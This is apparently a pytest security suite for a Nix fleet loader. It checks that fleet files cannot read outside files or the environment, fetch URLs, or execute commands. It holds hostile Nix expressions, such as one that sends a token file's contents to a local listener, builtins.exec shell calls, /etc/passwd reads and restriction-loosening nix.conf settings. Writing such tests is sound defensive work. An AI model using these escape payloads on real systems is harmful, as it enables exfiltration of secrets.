"""The fleet's tree is input: its files see their repository and nothing else."""

import http.server
import json
import os
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from nixherd.base.errors import FleetInvalid
from nixherd.fleet import load as loading
from nixherd.fleet.load import load_fleet
from nixherd.nix.flakes import lock_flake
from nixherd.proxmox.hypervisor import Definitions
from tests.nixherd.cli.test_cli_completion import offered
from tests.security.tree.conftest import MakeFleet, note_of, noted, say

# A closed world


@dataclass
class Listener:
    """A server that a file could be sent to."""

    port: int
    heard: list[str]


@pytest.fixture
def listener() -> Iterator[Listener]:
    heard: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    yield Listener(server.server_address[1], heard)
    server.shutdown()
    thread.join()
    server.server_close()


FETCHES = {
    "fetchurl": "builtins.readFile (builtins.fetchurl URL)",
    "fetchTarball": "fetchTarball { url = URL; }",
    "fetchTree": 'builtins.fetchTree { type = "file"; url = URL; }',
    "fetchGit": "fetchGit { url = URL; }",
    "getFlake": '(builtins.getFlake "tarball+${URL}").outPath',
    "findFile": '"${builtins.findFile [ { prefix = "a"; path = URL; } ] "a"}"',
}


@pytest.mark.parametrize("fetch", FETCHES)
@pytest.mark.parametrize("way", ["FLEET", "--flake", "TAB"])
def test_a_file_is_not_sent_anywhere(
    make_fleet: MakeFleet,
    tmp_path: Path,
    listener: Listener,
    monkeypatch: pytest.MonkeyPatch,
    fetch: str,
    way: str,
) -> None:
    token = tmp_path / "token"
    token.write_text("s3cr3t")
    url = f'"http://127.0.0.1:{listener.port}/${{builtins.readFile "{token}"}}"'
    directory = make_fleet(noted(FETCHES[fetch].replace("URL", f"({url})")))
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    if way == "TAB":
        monkeypatch.setenv("FLEET", str(directory))
        assert offered("vm", "start", "") == offered("deploy", "") == []
    else:
        if way == "--flake":
            (directory / "flake.nix").write_text("{ outputs = _: { }; }")
            directory = lock_flake(f"path:{directory}").path
        with pytest.raises(FleetInvalid, match=r"^hosts\.nix:7:\d+: builtins\.\w+: "):
            Definitions.load(directory)
    assert listener.heard == []


def test_nothing_of_the_fleets_files_goes_to_the_store(make_fleet: MakeFleet) -> None:
    marker = f"marker-{os.urandom(8).hex()}"
    load_fleet(make_fleet(noted(f'builtins.toFile "{marker}" "x" + "${{./hosts}}"')))
    store = Path("/nix/store")
    assert not store.is_dir() or [path for path in store.iterdir() if marker in path.name] == []


# What is said, of how it is asked for. OUT is a file outside, SECRET one with Nix in it.
ASKED = {
    'builtins.getEnv "HOME"': "builtins.getEnv: reads the environment",
    '__getEnv "HOME"': "builtins.getEnv: reads the environment",
    '(builtins.tryEval (builtins.getEnv "HOME")).value': "builtins.getEnv: reads the environment",
    'let inherit (builtins) getEnv; in getEnv "HOME"': "builtins.getEnv: reads the environment",
    'with builtins; getEnv "HOME"': "builtins.getEnv: reads the environment",
    'builtins.builtins.getEnv "HOME"': "builtins.getEnv: reads the environment",
    'map builtins.getEnv [ "HOME" ]': "builtins.getEnv: reads the environment",
    'builtins.${"get" + "Env"} "HOME"': "builtins.getEnv: reads the environment",
    "builtins.currentTime": "builtins.currentTime: reads the clock",
    "builtins.currentTime or 0": "builtins.currentTime: reads the clock",
    "__currentTime": "builtins.currentTime: reads the clock",
    "[ __currentTime ]": "builtins.currentTime: reads the clock",
    "builtins.currentSystem": "builtins.currentSystem: tells on what machine",
    "__currentSystem": "builtins.currentSystem: tells on what machine",
    "builtins.nixPath": "builtins.nixPath: reads the environment",
    "__nixPath": "builtins.nixPath: reads the environment",
    "<nixpkgs>": "builtins.findFile: <nixpkgs> is looked for elsewhere",
    "<nix/fetchurl.nix>": "builtins.findFile: <nix/fetchurl.nix> is looked for elsewhere",
    "builtins.isPath <x>": "builtins.findFile: <x> is looked for elsewhere",
    'builtins.findFile [ ] "x"': "builtins.findFile: looks for files elsewhere",
    'builtins.storePath "/nix/store/a"': "builtins.storePath: reads the Nix store",
    '__storePath "/nix/store/a"': "builtins.storePath: reads the Nix store",
    '(builtins.getFlake "path:OUT").x': "builtins.getFlake: fetches",
    'builtins.fetchTree { type = "path"; path = "/"; }': "builtins.fetchTree: fetches",
    "fetchGit ./.": "builtins.fetchGit: fetches",
    "builtins.fetchGit ./.": "builtins.fetchGit: fetches",
    'fetchMercurial "/x"': "builtins.fetchMercurial: fetches",
    'fetchTree "path:/x"': "builtins.fetchTree: fetches",
    "builtins.readFile OUT": "OUT lies outside of the fleet's repository",
    'builtins.readFile "OUT"': "OUT lies outside of the fleet's repository",
    "builtins.readFile ./../outside/secret.nix": "OUT lies outside of the fleet's repository",
    'builtins.readFile (toString ./. + "/vms/../../outside/secret.nix")': "OUT lies outside of the fleet's repository",
    'builtins.readFile { outPath = "OUT"; }': "OUT lies outside of the fleet's repository",
    'builtins.readFile { __toString = _: "OUT"; }': "OUT lies outside of the fleet's repository",
    "__readFile OUT": "OUT lies outside of the fleet's repository",
    "builtins.readDir /.": "builtins.readDir: / lies outside",
    "builtins.readDir ./..": "lies outside of the fleet's repository",
    "builtins.readFileType OUT": "OUT lies outside of the fleet's repository",
    "builtins.pathExists OUT": "builtins.pathExists: OUT lies outside of the fleet's repository",
    "builtins.pathExists /nowhere": "builtins.pathExists: /nowhere lies outside of the fleet's repository",
    "__pathExists /nowhere": "builtins.pathExists: /nowhere lies outside of the fleet's repository",
    'builtins.hashFile "sha256" OUT': "OUT lies outside of the fleet's repository",
    "builtins.path { path = OUT; }": "OUT lies outside of the fleet's repository",
    "builtins.filterSource (_: _: true) OUT": "OUT lies outside of the fleet's repository",
    "import OUT": "OUT lies outside of the fleet's repository",
    'import "OUT"': "OUT lies outside of the fleet's repository",
    "builtins.import OUT": "OUT lies outside of the fleet's repository",
    "builtins.scopedImport { } OUT": "OUT lies outside of the fleet's repository",
    "scopedImport { } OUT": "OUT lies outside of the fleet's repository",
    '"${OUT}"': " lies outside of the fleet's repository",
    '"${/. + "OUT"}"': " lies outside of the fleet's repository",
    "builtins.toJSON OUT": " lies outside of the fleet's repository",
    "builtins.toXML [ (import OUT) ]": "OUT lies outside of the fleet's repository",
    "builtins.readFile ./.git/config": "is left out, as all directories with such names are",
    "builtins.pathExists ./.git/config": "is left out, as all directories with such names are",
    '"${./.git}"': "is left out, as all directories with such names are",
    'import (derivation { name = "a"; system = "b"; builder = "c"; })': "would have to be built or copied",
    'builtins.readFile (derivation { name = "a"; system = "b"; builder = "c"; }).outPath': "would have to be built",
    'builtins.readFile (builtins.toFile "a" "b")': "would have to be built or copied to the Nix store first",
    'builtins.readFile "${./hosts}/dev/home.nix"': "would have to be built or copied to the Nix store first",
    "toString ~/x": "~ is the home of whoever evaluates this",
    "builtins.readFile ~/x": "~ is the home of whoever evaluates this",
    "builtins.pathExists ~/x": "~ is the home of whoever evaluates this",
    "import ./inner.nix": "builtins.getEnv: reads the environment",
    "builtins.scopedImport { a = 1; } ./inner.nix": "builtins.getEnv: reads the environment",
    "import ./again.nix": "builtins.getEnv: reads the environment",
    "import ./directory": "builtins.getEnv: reads the environment",
    'builtins.exec [ "sh" ]': "",
    "builtins.importNative ./x.so": "",
}


@pytest.mark.parametrize("expression", ASKED)
def test_what_is_outside_is_an_error_with_its_place(repository: Path, expression: str) -> None:
    """Also where Nix would say nothing (`or 0`, `tryEval`), or would give an answer that is none."""
    outside = repository.parent / "outside" / "secret.nix"
    (repository / "inner.nix").write_text('builtins.getEnv "HOME"')
    (repository / "again.nix").write_text("builtins.map (x: x) [ (import ./inner.nix) ]")
    (repository / "directory").mkdir()
    (repository / "directory" / "default.nix").write_text("import ../inner.nix")
    say(repository, expression.replace("OUT", str(outside)))
    with pytest.raises(FleetInvalid, match=r"^(hosts|inner)\.nix:\d+:\d+: .+; .+") as caught:
        load_fleet(repository)
    assert ASKED[expression].replace("OUT", str(outside)) in str(caught.value)
    assert "\n" not in str(caught.value)


def test_of_all_that_this_nix_knows_only_what_is_pure_is_reached(repository: Path) -> None:
    """Every name that could be said in a file: as it is, with underscores, and in `builtins`."""
    loader = Path(loading.__file__).with_name("load.nix").read_text()
    pure = loader.partition("pure = [")[2].partition("]")[0].replace('"', "").split()
    pure += ["__" + name for name in pure]
    experimental = "fetch-closure dynamic-derivations"
    nix = [
        "nix",
        "--extra-experimental-features",
        f"nix-command {experimental}",
        "eval",
        "--impure",
        "--json",
        "--expr",
    ]
    names = json.loads(subprocess.check_output([*nix, "builtins.attrNames builtins"]))
    reading = ["readFile", "readDir", "readFileType", "pathExists", "filterSource", "import", "scopedImport"]
    reading += ["hashFile", "path"]
    os.environ["NIX_CONFIG"] = f"extra-experimental-features = {experimental}"
    try:
        for name in names:
            for output in (f"builtins.{name}", name, f"__{name}"):
                bare = output.removeprefix("builtins.")
                if bare in pure or bare in ("builtins", "__findFile"):
                    continue
                say(repository, f"(builtins.typeOf ({output}))")
                try:
                    found = note_of(repository)
                except FleetInvalid as error:
                    assert f"builtins.{name}: " in str(error) or "undefined variable" in str(error), output  # noqa: PT017
                else:
                    assert (found, name in reading) == ("lambda", True), output
    finally:
        del os.environ["NIX_CONFIG"]


def test_the_functions_that_read_are_ours_under_all_their_names(repository: Path) -> None:
    for name in ("builtins.readFile", "__readFile", "builtins.builtins.readFile", "(with builtins; readFile)"):
        say(repository, f"{name} /etc/hostname")
        with pytest.raises(FleetInvalid, match="lies outside"):
            load_fleet(repository)


OPENING = {
    "nix-path": "a={0}",
    "extra-nix-path": "a={0}",
    "allowed-uris": "http:// https:// path: file:",
    "extra-allowed-uris": "http:// https://",
    "restrict-eval": "false",
    "pure-eval": "true",
    "allow-import-from-derivation": "true",
    "allow-unsafe-native-code-during-evaluation": "true",
}


@pytest.mark.parametrize("place", ["NIX_CONFIG", "NIX_USER_CONF_FILES", "XDG_CONFIG_HOME", "HOME", "NIX_PATH"])
def test_what_the_operator_set_for_nix_opens_nothing(
    repository: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, listener: Listener, place: str
) -> None:
    outside = repository.parent / "outside"
    lines = [f"{name} = {value.format(outside)}" for name, value in OPENING.items()]
    lines += ["extra-experimental-features = pipe-operators"]
    conf = tmp_path / "home" / ".config" / "nix" / "nix.conf"
    conf.parent.mkdir(parents=True)
    conf.write_text("\n".join(lines) + "\n")
    for name in ("NIX_CONFIG", "NIX_USER_CONF_FILES", "XDG_CONFIG_HOME", "NIX_PATH"):
        monkeypatch.delenv(name, raising=False)
    values = {
        "NIX_CONFIG": "\n".join(lines),
        "NIX_USER_CONF_FILES": str(conf),
        "XDG_CONFIG_HOME": str(conf.parents[1]),
        "HOME": str(conf.parents[2]),
        "NIX_PATH": f"{outside}:a={outside}",
    }
    monkeypatch.setenv(place, values[place])
    secret = f"{outside}/secret.nix"
    url = f"http://127.0.0.1:{listener.port}/x"
    for expression in (
        f"import {secret}",
        f'"${{{secret}}}"',
        "<a/secret.nix>",
        f'builtins.fetchurl "{url}"',
        f'builtins.exec [ "cat" "{secret}" ]',
        f"(import {outside}/secret.nix)",
        'import "${derivation { name = "a"; system = "b"; builder = "c"; }}"',
    ):
        say(repository, expression)
        with pytest.raises(FleetInvalid):
            load_fleet(repository)
    assert listener.heard == []
    if place != "NIX_PATH":  # the language that they write goes on to work
        say(repository, "[ 1 2 ] |> builtins.length")
        assert note_of(repository) == 2


def test_a_set_cannot_pose_as_a_path(repository: Path) -> None:
    say(repository, '{ "nixherd:path" = "/etc/passwd"; exists = true; }')
    assert note_of(repository) == {"nixherd:path": "/etc/passwd", "exists": True}
